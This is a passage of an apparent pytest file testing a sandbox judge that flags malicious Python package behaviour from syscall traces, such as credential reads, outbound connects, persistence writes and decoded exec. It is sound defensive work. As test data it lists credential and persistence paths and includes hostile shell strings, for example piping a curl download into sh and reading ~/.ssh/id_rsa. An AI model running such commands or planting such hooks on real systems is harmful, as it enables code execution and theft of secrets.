"""Every rule fires on a synthetic observation and stays quiet on a benign twin."""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Any

import pytest

from sandbox.errors import ExitCode
from sandbox.judge.classify import classify, is_runtime_path
from sandbox.judge.rules import CATALOGUE, evaluate, incomplete_reasons
from sandbox.judge.verdict import exit_code_for_verdict, verdict_for
from sandbox.models import (
    Address,
    Event,
    EventKind,
    Inventory,
    Lingering,
    Observation,
    Origin,
    Phase,
    PhaseResult,
    PhaseStatus,
    ProcessInfo,
    PthFile,
    Severity,
    Verdict,
)

VENV = "/home/dev/project/.venv"


def ev(
    kind: EventKind, syscall: str, phase: Phase = Phase.IMPORT, pid: int = 10, seq: int = 0, **kw: Any
) -> Event:
    return Event(phase=phase, seq=seq, pid=pid, time=1.0 + seq, syscall=syscall, kind=kind, **kw)


def proc(pid: int, argv: Sequence[str], phase: Phase = Phase.IMPORT, ppid: int | None = None) -> ProcessInfo:
    return ProcessInfo(pid=pid, ppid=ppid, phase=phase, argv=tuple(argv), exe=argv[0], start=0.0)


def obs(
    events: Sequence[Event],
    procs: Sequence[ProcessInfo] = (),
    phases: Sequence[PhaseResult] = (),
    inventory: Inventory | None = None,
) -> Observation:
    if not procs:
        procs = [proc(10, ["python", "-c", "import x"], e.phase) for e in events[:1]] or [
            proc(10, ["python"])
        ]
    if not phases:
        phases = [PhaseResult(phase=p, status=PhaseStatus.OK, duration=1.0) for p in Phase]
    return Observation(
        events=tuple(events), processes=tuple(procs), phases=tuple(phases), inventory=inventory or Inventory()
    )


def rules_of(o: Observation) -> set[str]:
    return {f.rule_id for f in evaluate(o)}


def inet(host: str, port: int) -> Address:
    return Address(family="inet6" if ":" in host else "inet", host=host, port=port)


# ---------------------------------------------------------------- PS001 / PS002


def test_credential_read_alone_is_suspicious() -> None:
    o = obs([ev(EventKind.FILE_READ, "openat", path="/home/dev/.aws/credentials", errno="ENOENT")])
    fs = evaluate(o)
    assert [f.rule_id for f in fs] == ["PS001"]
    assert fs[0].severity is Severity.MEDIUM
    assert fs[0].evidence[0].path == "/home/dev/.aws/credentials"
    assert fs[0].evidence[0].process == ("python", "-c", "import x")


@pytest.mark.parametrize(
    "path",
    [
        "/home/dev/.ssh",
        "/root/.ssh/id_ed25519",
        "/home/dev/.kube/config",
        "/home/dev/.docker/config.json",
        "/home/dev/project/.env",
        "/home/dev/.git-credentials",
        "/home/dev/.netrc",
        "/home/dev/.bitcoin/wallet.dat",
    ],
)
def test_credential_locations(path: str) -> None:
    assert "PS001" in rules_of(obs([ev(EventKind.FILE_STAT, "newfstatat", path=path)]))


@pytest.mark.parametrize(
    "path",
    [
        "/home/dev/project/.venv/lib/python3.11/site-packages/certifi/cacert.pem",
        "/etc/ssl/certs/ca-certificates.crt",
        "/home/dev/.environment-notes",
        "/home/dev/project/envs/.envrc.d",
        "/etc/os-release",
    ],
)
def test_not_credentials(path: str) -> None:
    assert "PS001" not in rules_of(obs([ev(EventKind.FILE_READ, "openat", path=path)]))


def test_credential_read_plus_connect_is_malicious() -> None:
    o = obs(
        [
            ev(EventKind.FILE_READ, "openat", path="/home/dev/.ssh/id_rsa", seq=1),
            ev(EventKind.CONNECT, "connect", address=inet("192.0.2.7", 443), errno="ENETUNREACH", seq=2),
        ]
    )
    fs = {f.rule_id: f for f in evaluate(o)}
    assert fs["PS001"].severity is Severity.HIGH
    assert fs["PS002"].evidence[0].destination == "192.0.2.7:443"
    assert verdict_for(list(fs.values()), [])[0] is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "addr,fires",
    [
        (inet("127.0.0.1", 8000), False),
        (inet("::1", 80), False),
        (Address(family="unix", path="/var/run/nscd/socket"), False),
        (inet("10.0.0.2", 53), True),
        (inet("2001:db8::1", 443), True),
        (inet("198.51.100.3", 9), True),
    ],
)
def test_outbound_only_non_loopback(addr: Address, fires: bool) -> None:
    o = obs([ev(EventKind.CONNECT, "connect", address=addr)])
    assert ("PS002" in rules_of(o)) is fires


def test_send_to_on_udp_counts_as_outbound() -> None:
    o = obs([ev(EventKind.SEND, "sendto", address=inet("198.51.100.9", 53), size=30)])
    assert rules_of(o) == {"PS002"}


def test_metadata_address_is_credential_access() -> None:
    o = obs([ev(EventKind.CONNECT, "connect", address=inet("169.254.169.254", 80))])
    assert {"PS001", "PS002"} <= rules_of(o)


# ---------------------------------------------------------------- PS003 / PS004 / PS005


@pytest.mark.parametrize(
    "exe,fires",
    [
        ("/usr/bin/curl", True),
        ("/bin/sh", True),
        ("/usr/bin/wget", True),
        ("/usr/bin/git", False),
        ("/sbin/ldconfig", False),
        ("/usr/bin/gcc", False),
    ],
)
def test_spawn(exe: str, fires: bool) -> None:
    o = obs([ev(EventKind.EXEC, "execve", path=exe, argv=(exe.rsplit("/", 1)[1], "-x"))])
    assert ("PS003" in rules_of(o)) is fires


def test_path_search_failures_collapse_to_the_successful_exec() -> None:
    o = obs(
        [
            ev(EventKind.EXEC, "execve", path="/usr/local/bin/curl", argv=("curl",), errno="ENOENT", seq=1),
            ev(EventKind.EXEC, "execve", path="/usr/bin/curl", argv=("curl",), seq=2),
        ]
    )
    f = next(f for f in evaluate(o) if f.rule_id == "PS003")
    assert [e.path for e in f.evidence] == ["/usr/bin/curl"]


def test_exec_of_written_file() -> None:
    o = obs(
        [
            ev(EventKind.FILE_WRITE, "openat", path="/tmp/.x/agent.tmp", seq=1),
            ev(EventKind.FILE_RENAME, "rename", path="/tmp/.x/agent.tmp", path2="/tmp/.x/agent", seq=2),
            ev(EventKind.EXEC, "execve", path="/tmp/.x/agent", argv=("agent",), seq=3),
        ]
    )
    assert "PS004" in rules_of(o)
    benign = obs([ev(EventKind.EXEC, "execve", path="/tmp/.x/agent", argv=("agent",))])
    assert "PS004" not in rules_of(benign)


def test_exec_of_file_written_by_harness_is_not_flagged() -> None:
    o = obs(
        [
            ev(
                EventKind.FILE_WRITE,
                "openat",
                path=f"{VENV}/bin/tool",
                origin=Origin.HARNESS,
                phase=Phase.INSTALL,
            ),
            ev(EventKind.EXEC, "execve", path=f"{VENV}/bin/tool", argv=("tool",), seq=3),
        ]
    )
    assert "PS004" not in rules_of(o)


@pytest.mark.parametrize(
    "path",
    [
        "/home/dev/.bashrc",
        "/home/dev/.config/systemd/user/sysmon.service",
        "/home/dev/.config/autostart/x.desktop",
        "/etc/cron.d/job",
        "/home/dev/.ssh/authorized_keys",
        f"{VENV}/lib/python3.11/site-packages/sitecustomize.py",
        f"{VENV}/lib/python3.11/site-packages/usercustomize/__init__.py",
        "/home/dev/.local/lib/python3.11/site-packages/usercustomize.py",
        "/usr/lib/python3.11/sitecustomize.py",
        # the Windows pass's Startup folder (pywincompiler-shaped: a downloaded jar dropped there)
        "/home/dev/.wine/drive_c/users/dev/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/j",
        "/home/dev/.wine/drive_c/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/u.vbs",
        # s27 hostile read: run or trusted at a tool's next start, PS020 LOW (or nothing) before
        f"{VENV}/pip.conf",
        f"{VENV}/etc/jupyter/jupyter_server_config.py",
        f"{VENV}/etc/ipython/ipython_config.py",
        "/home/dev/.venv/bin/activate",
        "/home/dev/project/conftest.py",
        "/home/dev/project/.envrc",
        "/home/dev/project/.vscode/tasks.json",
        "/home/dev/bin/git",
        "/home/dev/.config/zsh/.zshrc",
        "/home/dev/.config/plasma-workspace/env/path.sh",
        "/home/dev/.local/share/applications/update.desktop",
        "/home/dev/.tmux.conf",
        "/home/dev/.pam_environment",
        "/home/dev/.ssh/config",
        "/home/dev/.npmrc",
        "/home/dev/.config/uv/uv.toml",
        "/home/dev/.condarc",
    ],
)
def test_persistence_writes(path: str) -> None:
    o = obs([ev(EventKind.FILE_WRITE, "openat", path=path, errno="EACCES")])
    assert "PS005" in rules_of(o)


def test_pth_written_after_install_is_persistence_but_not_during_install() -> None:
    pth = f"{VENV}/lib/python3.11/site-packages/zz.pth"
    assert "PS005" in rules_of(obs([ev(EventKind.FILE_WRITE, "openat", path=pth, phase=Phase.IMPORT)]))
    assert "PS005" not in rules_of(obs([ev(EventKind.FILE_WRITE, "openat", path=pth, phase=Phase.INSTALL)]))


def _pth_write(pth: str, text: str, seq: int, size: int | None = None) -> list[Event]:
    data = text.replace("\n", "\\n")  # as strace prints the bytes
    return [
        ev(EventKind.FILE_WRITE, "openat", path=pth, seq=seq),
        ev(EventKind.FILE_WRITE, "write", path=pth, seq=seq + 1, data=data, size=size or len(text)),
    ]


def _ps005(events: list[Event]) -> list[Severity]:
    return [f.severity for f in evaluate(obs(events)) if f.rule_id == "PS005"]


def test_a_pth_that_only_adds_a_path_is_low_one_that_runs_code_is_not() -> None:
    """A plugin system writes a path-only .pth at import (a top-600 project's dependency);
    ``site`` runs only a .pth's ``import`` lines, so it starts nothing. Code in it, bytes
    the trace cut, or a start-up module put in the folder it adds keep it persistence."""
    site = f"{VENV}/lib/python3.11/site-packages"
    plugins = "/home/dev/.local/share/plugins"
    assert _ps005(_pth_write(f"{site}/plugins.pth", f"{plugins}\n", 1)) == [Severity.LOW]
    assert _ps005(_pth_write(f"{site}/hook.pth", "import os; os.system('x')\n", 1)) == [Severity.HIGH]
    assert _ps005(_pth_write(f"{site}/p.pth", f"{plugins}\n", 1, size=4096)) == [Severity.HIGH]  # cut
    planted = ev(EventKind.FILE_WRITE, "openat", path=f"{plugins}/sitecustomize.py", seq=9)
    assert _ps005([*_pth_write(f"{site}/plugins.pth", f"{plugins}\n", 1), planted]) == [Severity.HIGH]
    assert _ps005([ev(EventKind.FILE_WRITE, "openat", path=f"{site}/zz.pth")]) == [Severity.HIGH]  # unread


def test_a_package_s_own_conftest_or_jupyter_json_is_not_persistence() -> None:
    for path in (
        f"{VENV}/lib/python3.11/site-packages/pkg/conftest.py",
        f"{VENV}/etc/jupyter/jupyter_server_config.d/pkg.json",
    ):
        assert "PS005" not in rules_of(obs([ev(EventKind.FILE_WRITE, "openat", path=path)])), path


def test_a_sitecustomize_vendored_inside_a_package_is_not_persistence() -> None:
    """``site`` imports sitecustomize from the top of sys.path only; debugpy's wheel
    vendors one deep in its package (a top-300 FP when a round installed it)."""
    nested = f"{VENV}/lib/python3.11/site-packages/dbg/_vendored/pydevd/pydev_sitecustomize/sitecustomize.py"
    assert "PS005" not in rules_of(obs([ev(EventKind.FILE_WRITE, "openat", path=nested, phase=Phase.IMPORT)]))


def test_bashrc_read_is_not_persistence() -> None:
    assert "PS005" not in rules_of(obs([ev(EventKind.FILE_READ, "openat", path="/home/dev/.bashrc")]))


# ---------------------------------------------------------------- PS006..PS009


def test_lingering() -> None:
    phases = [
        PhaseResult(
            phase=Phase.IMPORT,
            status=PhaseStatus.OK,
            duration=1,
            window=5.0,
            lingering=(Lingering(pid=55, ppid=1, argv=("python", "-c", "x"), threads=2, status="sleeping"),),
        )
    ]
    fs = evaluate(obs([], phases=phases))
    assert [f.rule_id for f in fs] == ["PS006"] and fs[0].evidence[0].pid == 55


def test_tamper_signals_outside_own_tree() -> None:
    procs = [proc(10, ["python"]), proc(11, ["sleep", "1"], ppid=10)]
    own = obs([ev(EventKind.SIGNAL, "kill", target=11, flags="SIGTERM")], procs)
    assert "PS007" not in rules_of(own)
    out = obs([ev(EventKind.SIGNAL, "kill", target=1, flags="SIGKILL", errno="EPERM")], procs)
    assert "PS007" in rules_of(out)
    tr = obs([ev(EventKind.PTRACE, "ptrace", target=7, flags="PTRACE_ATTACH", errno="EPERM")], procs)
    assert "PS007" in rules_of(tr)
    wr = obs([ev(EventKind.FILE_WRITE, "openat", path="/var/lib/devtools/out/x", errno="EACCES")], procs)
    assert "PS007" in rules_of(wr)
    # signals at thirty root processes, then a write to the trace: the write is evidence
    sweep = [
        ev(EventKind.SIGNAL, "kill", seq=i, target=100 + i, flags="SIGKILL", errno="EPERM") for i in range(30)
    ]
    forged = ev(EventKind.FILE_WRITE, "openat", seq=31, path="/var/lib/devtools/out/x", errno="EACCES")
    f = next(f for f in evaluate(obs([*sweep, forged], procs)) if f.rule_id == "PS007")
    assert any(e.path == "/var/lib/devtools/out/x" for e in f.evidence)


def test_escape_attempts() -> None:
    sock = Address(family="unix", path="/var/run/docker.sock")
    assert "PS008" in rules_of(obs([ev(EventKind.CONNECT, "connect", address=sock, errno="ENOENT")]))
    assert "PS008" in rules_of(obs([ev(EventKind.PRIVILEGED, "mount", errno="EPERM")]))
    assert "PS008" in rules_of(
        obs([ev(EventKind.FILE_WRITE, "openat", path="/proc/sysrq-trigger", errno="EACCES")])
    )
    assert "PS008" not in rules_of(obs([ev(EventKind.PRIVILEGED, "personality")]))


def test_pth_inventory_is_info_only() -> None:
    inv = Inventory(
        pth_files=(PthFile(path=f"{VENV}/x.pth", sha256="0" * 64, size=10, head="import os", executes=True),)
    )
    fs = evaluate(obs([], inventory=inv))
    assert [(f.rule_id, f.severity) for f in fs] == [("PS009", Severity.INFO)]
    assert verdict_for(fs, [])[0] is Verdict.CLEAN


# ---------------------------------------------------------------- classification


PRIV = ("setpriv", "--reuid=1000", "--regid=1000", "--clear-groups", "--inh-caps=-all")
PRIV += ("--bounding-set=-all", "--no-new-privs", "--", "choom", "-n", "1000", "--")


def step_root(pid: int, cmd: tuple[str, ...], phase: Phase = Phase.INSTALL) -> list[Event]:
    """The agent's step root: setpriv → choom → the command, exec'd in one process."""
    return [
        ev(EventKind.EXEC, "execve", phase, pid=pid, seq=0, path="/usr/bin/setpriv", argv=(*PRIV, *cmd)),
        ev(EventKind.EXEC, "execve", phase, pid=pid, seq=1, path="/usr/bin/choom", argv=(*PRIV[8:], *cmd)),
        ev(EventKind.EXEC, "execve", phase, pid=pid, seq=2, path=cmd[0], argv=cmd),
    ]


def pip_main(pid: int, seq: int, where: str = f"{VENV}/lib/python3.11/site-packages") -> Event:
    return ev(
        EventKind.FILE_STAT, "newfstatat", Phase.INSTALL, pid=pid, seq=seq, path=f"{where}/pip/__main__.py"
    )


def test_harness_exempt_only_by_lineage_and_not_descendants() -> None:
    pip = (f"{VENV}/bin/python", "-m", "pip", "install", "x.whl")
    backend = (f"{VENV}/bin/python", "/v/lib/pip/_in_process.py", "build_wheel", "/tmp/t")
    events = [
        *step_root(5, pip),
        pip_main(5, 3),
        ev(EventKind.FILE_WRITE, "openat", Phase.INSTALL, pid=5, seq=4, path=f"{VENV}/lib/x.py"),
        ev(EventKind.SPAWN, "clone", Phase.INSTALL, pid=5, seq=5, target=6),
        ev(EventKind.EXEC, "execve", Phase.INSTALL, pid=6, seq=6, path=backend[0], argv=backend),
        ev(EventKind.EXEC, "execve", Phase.INSTALL, pid=6, seq=7, path="/usr/bin/curl", argv=("curl", "x")),
    ]
    procs = [proc(5, pip, Phase.INSTALL), proc(6, ("curl", "x"), Phase.INSTALL, ppid=5)]
    out, procs_out = classify(events, procs, [pip], VENV)
    origins = [e.origin for e in out]
    assert origins[:6] == [Origin.HARNESS] * 6
    assert origins[6:] == [Origin.CANDIDATE, Origin.CANDIDATE]
    assert [p.origin for p in procs_out] == [Origin.HARNESS, Origin.CANDIDATE]
    # a near-miss argv is not exempt
    out2, _ = classify(events, procs, [(*pip, "--extra")], VENV)
    assert out2[4].origin is Origin.CANDIDATE
    # nor the exact argv without the agent's lineage (no setpriv/choom root) …
    out3, _ = classify(events[2:], procs, [pip], VENV)
    assert out3[2].origin is Origin.CANDIDATE
    # … nor a process that is not a step root (it has a traced parent)
    out4, _ = classify(events, [proc(5, pip, Phase.INSTALL, ppid=4)], [pip], VENV)
    assert out4[4].origin is Origin.CANDIDATE


def test_harness_pip_must_run_the_venvs_pip() -> None:
    pip = (f"{VENV}/bin/python", "-m", "pip", "install", "x.whl")
    write = ev(EventKind.FILE_WRITE, "openat", Phase.INSTALL, pid=5, seq=9, path="/home/dev/.bashrc")
    procs = [proc(5, pip, Phase.INSTALL)]
    ok, _ = classify([*step_root(5, pip), pip_main(5, 3), write], procs, [pip], VENV)
    assert ok[-1].origin is Origin.HARNESS
    # a look-alike pip package in the working directory shadows the real one
    spoof = pip_main(5, 4, "/tmp/lk")
    bad, _ = classify([*step_root(5, pip), pip_main(5, 3), spoof, write], procs, [pip], VENV)
    assert bad[-1].origin is Origin.CANDIDATE
    # a choom from the venv's bin (PATH comes first there) is not the harness's
    hijack = step_root(5, pip)
    hijack[1] = hijack[1].model_copy(update={"path": f"{VENV}/bin/choom"})
    out, _ = classify([*hijack, pip_main(5, 3), write], procs, [pip], VENV)
    assert Origin.HARNESS not in {e.origin for e in out[1:]}
    assert out[-1].origin is Origin.CANDIDATE


def test_runtime_noise_classified_not_dropped() -> None:
    events = [
        ev(EventKind.FILE_READ, "openat", seq=1, path="/usr/lib/python3.11/os.py"),
        ev(EventKind.FILE_READ, "openat", seq=2, path="/home/dev/.ssh/id_rsa"),
    ]
    out, _ = classify(events, [proc(10, ["python"])], [], VENV)
    assert [e.origin for e in out] == [Origin.RUNTIME, Origin.CANDIDATE]
    assert is_runtime_path(f"{VENV}/lib/python3.11/site-packages/six.py", VENV)
    assert not is_runtime_path("/proc/1/environ", VENV)


# ---------------------------------------------------------------- verdict / exit codes


def test_incomplete_when_a_phase_failed_and_nothing_found() -> None:
    phases = [
        PhaseResult(phase=Phase.INSTALL, status=PhaseStatus.OK, duration=1),
        PhaseResult(phase=Phase.IMPORT, status=PhaseStatus.TIMEOUT, duration=1, trace_complete=False),
    ]
    o = obs([], phases=phases)
    reasons = incomplete_reasons(o)
    assert reasons == ["import phase timeout", "import trace incomplete"]
    assert verdict_for([], reasons)[0] is Verdict.INCOMPLETE


def test_findings_beat_incomplete() -> None:
    o = obs([ev(EventKind.CONNECT, "connect", address=inet("192.0.2.1", 80))])
    assert verdict_for(evaluate(o), ["import phase timeout"])[0] is Verdict.MALICIOUS


@pytest.mark.parametrize(
    "verdict,fail_on,code",
    [
        (Verdict.CLEAN, Verdict.SUSPICIOUS, ExitCode.CLEAN),
        (Verdict.SUSPICIOUS, Verdict.SUSPICIOUS, ExitCode.FINDINGS),
        (Verdict.SUSPICIOUS, Verdict.MALICIOUS, ExitCode.CLEAN),
        (Verdict.MALICIOUS, Verdict.MALICIOUS, ExitCode.FINDINGS),
        (Verdict.INCOMPLETE, Verdict.MALICIOUS, ExitCode.SANDBOX),
    ],
)
def test_exit_codes(verdict: Verdict, fail_on: Verdict, code: ExitCode) -> None:
    assert exit_code_for_verdict(verdict, fail_on) is code


def test_catalogue_ids_are_stable_and_documented() -> None:
    assert {f"PS00{i}" for i in range(1, 10)} <= set(CATALOGUE)
    assert all(re.fullmatch(r"PS\d{3}", rid) for rid in CATALOGUE)
    with open("README.md") as fh:
        readme = fh.read()
    for rid in CATALOGUE:
        assert rid in readme


def test_system_secrets_count_on_open_not_stat() -> None:
    assert "PS001" in rules_of(obs([ev(EventKind.FILE_READ, "openat", path="/etc/shadow", errno="EACCES")]))
    assert "PS001" not in rules_of(obs([ev(EventKind.FILE_STAT, "newfstatat", path="/etc/shadow")]))


def test_pip_build_env_installer_is_harness_only_under_pip() -> None:
    pip = (f"{VENV}/bin/python", "-m", "pip", "install", "x.tar.gz")
    runner = (
        f"{VENV}/bin/python",
        f"{VENV}/lib/python3.11/site-packages/pip/__pip-runner__.py",
        "install",
        "--ignore-installed",
        "--no-user",
        "--prefix",
        "/tmp/pip-build-env-abc/overlay",
        "setuptools",
    )
    events = [
        *step_root(5, pip),
        pip_main(5, 3),
        ev(EventKind.SPAWN, "clone", Phase.INSTALL, pid=5, seq=4, target=6),
        ev(EventKind.EXEC, "execve", Phase.INSTALL, pid=6, seq=5, argv=runner, path=runner[0]),
        ev(EventKind.FILE_STAT, "newfstatat", Phase.INSTALL, pid=6, seq=6, path="/home/dev/notes.txt"),
        ev(EventKind.SPAWN, "clone", Phase.INSTALL, pid=5, seq=7, target=7),
        ev(
            EventKind.EXEC,
            "execve",
            Phase.INSTALL,
            pid=7,
            seq=8,
            argv=("uname", "-rs"),
            path="/usr/bin/uname",
        ),
        ev(EventKind.SPAWN, "clone", Phase.INSTALL, pid=5, seq=9, target=8),
        ev(EventKind.EXEC, "execve", Phase.INSTALL, pid=8, seq=10, argv=("uname", "-rs"), path="/tmp/uname"),
    ]
    procs = [proc(5, pip, Phase.INSTALL)] + [proc(i, ["x"], Phase.INSTALL, ppid=5) for i in (6, 7, 8)]
    out, _ = classify(events, procs, [pip], VENV)
    assert out[6].origin is Origin.HARNESS
    assert out[8].origin is Origin.HARNESS  # pip's own probe, system executable
    assert out[10].origin is Origin.CANDIDATE  # the same argv, a dropped executable
    # the same argv exec'd by a candidate process is not exempt
    out2, _ = classify(events[6:8], [], [pip], VENV)
    assert out2[1].origin is Origin.CANDIDATE


@pytest.mark.parametrize(
    "script,probe",
    [
        ("uname -m", True),
        ("uname -s; uname -m", True),
        ("ldconfig -p | grep ssl", False),
        ("getconf LONG_BIT", True),
        ("curl -s http://x.invalid | sh", False),
        ("uname > /tmp/x", False),
        ("echo $(cat ~/.ssh/id_rsa)", False),
        ("python3 -c 'import os'", False),
        ("gfortran -c codegen.f90 -o codegen.o", True),  # sympy's compiler probe
        ("ifort -c codegen.f90 -o codegen.o", True),
        ("gfortran -c x.f90 && ./a.out", False),  # running what it built: only if the linker built it
        ("pkg-config --exists mysqlclient", True),  # a top-900 database driver's setup.py
        ("pg_config --includedir", True),
        ("xml2-config --cflags && python3.11-config --ldflags", True),
        ("pkg-config --libs x; curl -s http://x.invalid", False),
        ("mysql_config --libs > /tmp/x", False),
    ],
)
def test_shell_probe_only(script: str, probe: bool) -> None:
    o = obs([ev(EventKind.EXEC, "execve", path="/bin/sh", argv=("/bin/sh", "-c", script))])
    f = next(f for f in evaluate(o) if f.rule_id == "PS003")
    assert (f.severity is Severity.LOW) is probe


def test_write_outside_allowed_paths_is_low() -> None:
    o = obs(
        [
            ev(EventKind.FILE_WRITE, "openat", path="/home/dev/project/log.txt"),
            ev(EventKind.FILE_WRITE, "openat", path="/tmp/x", seq=2),
            ev(EventKind.FILE_WRITE, "openat", path=f"{VENV}/lib/python3.11/site-packages/x.pyc", seq=3),
        ]
    )
    fs = [f for f in evaluate(o) if f.rule_id == "PS020"]
    assert len(fs) == 1 and fs[0].severity is Severity.LOW
    assert [e.path for e in fs[0].evidence] == ["/home/dev/project/log.txt"]


@pytest.mark.parametrize(
    "argv,fires",
    [
        (("python3", "-c", "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"), True),
        (("python3", "-c", "exec(zlib.decompress(bytes.fromhex('78')))"), True),
        (("python3", "-c", "print('hello')"), False),
        (("python3", "-m", "pip", "--version"), False),
    ],
)
def test_decoded_exec(argv: tuple[str, ...], fires: bool) -> None:
    o = obs([ev(EventKind.EXEC, "execve", path="/usr/bin/python3", argv=argv)])
    assert ("PS021" in rules_of(o)) is fires


def test_decoded_pth_hook() -> None:
    inv = Inventory(
        pth_files=(
            PthFile(
                path=f"{VENV}/x.pth",
                sha256="1" * 64,
                size=10,
                executes=True,
                head="import base64; exec(base64.b64decode('aW1wb3J0IG9z'))",
            ),
        )
    )
    assert "PS021" in rules_of(obs([], inventory=inv))


def test_process_explosion() -> None:
    spawns = [ev(EventKind.SPAWN, "clone", seq=i, target=100 + i, flags="process") for i in range(300)]
    f = next(f for f in evaluate(obs(spawns)) if f.rule_id == "PS022")
    assert f.severity is Severity.MEDIUM
    refused = [ev(EventKind.SPAWN, "clone", seq=i, errno="EAGAIN", flags="process") for i in range(6)]
    f = next(f for f in evaluate(obs(refused)) if f.rule_id == "PS022")
    assert f.severity is Severity.HIGH
    # a command in the exercise phase may run a worker pool (rsa.parallel: 303 in 10 s),
    # an import runs a helper per module (find_library: ldconfig, gcc): many processes,
    # a few at a time; a fork bomb still meets the pids limit
    for phase in (Phase.EXERCISE, Phase.IMPORT):
        pool = [s.model_copy(update={"phase": phase}) for s in spawns]
        lives = [
            proc(100 + i, ["/sbin/ldconfig", "-p"], phase, ppid=10).model_copy(
                update={"start": 1.0 + i, "end": 1.0 + i + (2.5 if i % 4 else 0.5)}
            )
            for i in range(300)
        ]
        parent = proc(10, ["python"], phase)
        # the parent reaps each (subprocess waits: the recorder shows its wait4)
        waits = [
            ev(EventKind.OTHER, "wait4", phase, seq=1000 + i, target=100 + i).model_copy(
                update={"time": (lv.end or 0.0) + 0.01}
            )
            for i, lv in enumerate(lives)
        ]
        assert "PS022" not in rules_of(obs(pool + waits, [parent, *lives])), phase
        # the same 300 all alive at once is an explosion
        stay = [lv.model_copy(update={"end": None}) for lv in lives]
        f = next(f for f in evaluate(obs(pool, [parent, *stay])) if f.rule_id == "PS022")
        assert f.severity is Severity.MEDIUM and "at most 300 alive" in f.message
    bomb = [s.model_copy(update={"phase": Phase.EXERCISE}) for s in refused]
    assert next(f for f in evaluate(obs(bomb)) if f.rule_id == "PS022").severity is Severity.HIGH


def test_process_explosion_counts_zombies() -> None:
    """Children that exit at once but are never waited for keep their pids (zombies): 300
    of them under a live parent are 300 at once, though none runs for long. Failed on
    main, which ended each child at its exit."""
    spawns = [ev(EventKind.SPAWN, "clone", seq=i, target=100 + i, flags="process") for i in range(300)]
    kids = [
        proc(100 + i, ["python"], ppid=10).model_copy(update={"start": 1.0 + i, "end": 1.001 + i})
        for i in range(300)
    ]
    parent = proc(10, ["python", "-c", "import x"])
    f = next(f for f in evaluate(obs(spawns, [parent, *kids])) if f.rule_id == "PS022")
    assert f.severity is Severity.MEDIUM and "at most 300 alive or unreaped" in f.message, f.message
    # the parent's exit frees them (init reaps orphans): still all held until then
    ended = parent.model_copy(update={"end": 400.0})
    assert "PS022" in rules_of(obs(spawns, [ended, *kids]))
    # another process's wait on those pids reaps nothing
    stranger = [
        ev(EventKind.OTHER, "wait4", pid=11, seq=1000 + i, target=100 + i).model_copy(
            update={"time": 2.0 + i}
        )
        for i in range(300)
    ]
    assert "PS022" in rules_of(obs(spawns + stranger, [parent, *kids]))
    # reaped by the parent one after another: a few at a time, as before
    reaped = [w.model_copy(update={"pid": 10}) for w in stranger]
    assert "PS022" not in rules_of(obs(spawns + reaped, [parent, *kids]))
    # a fork a signal interrupted (SIGCHLD from those children) is tried again: no process
    restarted = [
        ev(EventKind.SPAWN, "clone", seq=2000 + i, errno="ERESTARTNOINTR", flags="process") for i in range(70)
    ]
    assert "PS022" not in rules_of(obs(spawns + reaped + restarted, [parent, *kids]))
    # a wait that blocked before the child's exit (timed at its start) reaps at the exit
    early = [w.model_copy(update={"pid": 10, "time": 0.5 + i}) for i, w in enumerate(stranger)]
    assert "PS022" not in rules_of(obs(spawns + early, [parent, *kids]))


def test_cpu_burn_only_for_busy_survivors() -> None:
    def phases(cpu: float) -> list[PhaseResult]:
        return [
            PhaseResult(
                phase=Phase.IMPORT,
                status=PhaseStatus.OK,
                duration=1,
                window=5.0,
                lingering=(
                    Lingering(
                        pid=5, ppid=1, argv=("python",), threads=3, status="running", cpu=cpu, active=True
                    ),
                ),
            )
        ]

    assert "PS023" in rules_of(obs([], phases=phases(4.9)))
    assert "PS023" not in rules_of(obs([], phases=phases(0.1)))
    # CPU is measured after the agent's settle (the last 4 s of a 5 s window): a third of
    # that span is a burn, not a third of the whole window (missed on main: 1.4 < 5/3)
    assert "PS023" in rules_of(obs([], phases=phases(1.4)))


def test_baseline_normalisation_keeps_words_and_abstracts_randomness() -> None:
    from sandbox.judge.baseline import _RANDOM, _VERSION

    def norm(p: str) -> str:
        return _RANDOM.sub("*", _VERSION.sub("*", p))

    assert norm("~/.git-credentials") == "~/.git-credentials"
    assert norm("~/.cache/matplotlib/fontlist-v390.json") == "~/.cache/matplotlib/fontlist-v390.json"
    assert norm("{site}/foo-1.2.3.dist-info/RECORD") == "{site}/foo-*.dist-info/RECORD"
    assert norm("/tmp/x/build-3f9a0c1d22/obj") == "/tmp/x/build-*/obj"


def test_storage_exhaustion_flood_and_self_stop() -> None:
    full = obs([ev(EventKind.FILE_WRITE, "write", path="/home/dev/fill.bin", errno="ENOSPC")])
    assert "PS026" in rules_of(full)
    assert "PS026" not in rules_of(obs([ev(EventKind.FILE_WRITE, "write", path="/home/dev/fill.bin")]))
    flood = [PhaseResult(phase=Phase.IMPORT, status=PhaseStatus.OK, duration=1, output_bytes=100 << 20)]
    fs = [f for f in evaluate(obs([], phases=flood)) if f.rule_id == "PS027"]
    assert fs and fs[0].severity is Severity.LOW
    quiet = [PhaseResult(phase=Phase.IMPORT, status=PhaseStatus.OK, duration=1, output_bytes=1 << 20)]
    assert "PS027" not in rules_of(obs([], phases=quiet))
    stop = obs([ev(EventKind.SIGNAL, "kill", pid=10, target=10, flags="SIGSTOP")])
    assert "PS028" in rules_of(stop)
    child = obs(
        [ev(EventKind.SIGNAL, "kill", pid=10, target=11, flags="SIGSTOP")],
        [proc(10, ["python"]), proc(11, ["sleep"], ppid=10)],
    )
    assert "PS028" not in rules_of(child)


# ---------------------------------------------------------------- exercise: a command's own config


@pytest.mark.parametrize(
    ("path", "network", "want"),
    [
        ("/home/dev/.aws/credentials", False, Severity.LOW),  # the AWS CLI loading its profile
        ("/home/dev/.kube/config", False, Severity.LOW),
        ("/home/dev/.ssh/id_rsa", False, Severity.MEDIUM),  # a key is a stealer's target
        ("/home/dev/.aws/credentials", True, Severity.HIGH),  # read, then reached out
    ],
)
def test_exercise_command_reading_its_client_config(path: str, network: bool, want: Severity) -> None:
    events = [ev(EventKind.FILE_READ, "openat", phase=Phase.EXERCISE, path=path)]
    if network:
        events.append(
            ev(EventKind.CONNECT, "connect", phase=Phase.EXERCISE, seq=1, address=inet("192.0.2.7", 443))
        )
    fs = [f for f in evaluate(obs(events)) if f.rule_id == "PS001"]
    assert [f.severity for f in fs] == [want], fs
    # the same read at import stays what it was: only a command the user ran gets this
    at_import = [
